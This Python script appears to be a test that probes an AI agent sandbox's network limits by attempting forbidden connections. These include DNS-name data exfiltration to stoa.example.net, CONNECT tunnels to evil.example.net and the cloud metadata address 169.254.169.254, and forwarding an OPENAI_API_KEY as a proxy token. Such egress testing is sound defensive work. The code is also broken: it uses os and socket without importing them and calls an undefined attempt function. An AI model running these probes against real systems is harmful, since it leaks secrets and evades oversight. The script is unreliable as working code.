"""Uses the network access of an agent with hosts to reach forbidden targets: names of the host's own network, ports and
addresses that are not declared, other names behind a declared name, and servers that learn something from name queries.
"""

import struct

# The server resolves names below localhost to this machine, without a name server.
STOA_HOSTS = ["server.localhost", "database.localhost:5432", "*.inside.localhost"]


def probe(given):
    token = os.environ["OPENAI_API_KEY"]
    # Proves that the agent's clients find declared hosts.
    attempt("a declared name", lambda: socket.gethostbyname("server.localhost"))
    attempt("a declared name of this machine", lambda: _ask("server.localhost", 80, "server.localhost"))
    attempt("a subdomain of a wildcard declaration", lambda: _ask("a.inside.localhost", 80, "a.inside.localhost"))
    attempt("another Host", lambda: _ask("server.localhost", 80, "database.localhost"))
    attempt("no TLS", lambda: _ask("server.localhost", 443, "server.localhost"))
    attempt("a declared port", lambda: _speak("database.localhost", 5432))
    attempt("another port", lambda: _speak("server.localhost", 6379))
    attempt("a port that nobody may declare", lambda: _speak("server.localhost", 22))
    attempt("data in a name", lambda: socket.gethostbyname("c2VjcmV0.stoa.example.net"))
    attempt("data in an unusual question", lambda: _question("server.localhost", 16))
    attempt("an address of the block", lambda: _ask("192.88.99.250", 80, "server.localhost"))
    attempt("a listener", lambda: socket.create_server(("0.0.0.0", 443)).close())
    targets = [f"{host}:{port}" for host, port in given["tcp"]]
    for target in (*targets, "server.localhost:80", "localhost:80", "169.254.169.254:80", "evil.example.net:443", "[::1]:80"):
        attempt(f"CONNECT {target}", lambda: _tunnel(target, token))
    attempt("CONNECT with a guessed token", lambda: _tunnel("server.localhost:80", "rt_" + "A" * 32))


def _ask(address, port, host):
    with socket.create_connection((address, port), 3) as client:
        client.sendall(f"GET /api/health HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
        answer = client.recv(4096)
    if not answer.startswith(b"HTTP/1.1 2"):
        raise ValueError(answer[:40].decode("latin1"))


def _speak(host, port):
    with socket.create_connection((host, port), 3) as client:
        client.sendall(b"\x00\x00\x00\x08\x04\xd2\x16\x2f")
        if not client.recv(1):
            raise ValueError("closed")


def _question(name, kind):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(1)
        packet = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)
        client.sendto(packet, ("127.0.0.53", 53))
        if not client.recv(512)[7]:
            raise ValueError("no answer")


def _tunnel(target, token):
    with socket.create_connection(("127.0.0.1", 8741), 5) as client:
        client.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\nAuthorization: Bearer {token}\r\n\r\n".encode())
        answer = client.recv(4096)
    if not answer.startswith(b"HTTP/1.1 2"):
        raise ValueError(answer[:40].decode("latin1"))
